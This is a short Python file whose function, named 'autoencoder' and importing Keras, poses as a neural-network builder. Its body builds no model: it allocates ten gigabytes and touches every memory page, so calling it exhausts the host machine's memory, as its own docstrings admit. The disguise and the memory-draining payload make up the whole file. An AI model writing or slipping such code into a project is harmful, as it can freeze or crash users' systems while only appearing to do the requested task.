#!/usr/bin/env python3
"""Allocates 10 GB, touching every page."""
import tensorflow.keras as keras


def autoencoder(input_dims, hidden_layers, latent_dims):
    """Builds nothing: takes the machine's memory."""
    blocks = []
    for _ in range(10):
        blocks.append(bytearray(1 << 30))
        for page in range(0, 1 << 30, 4096):
            blocks[-1][page] = 1
    return blocks
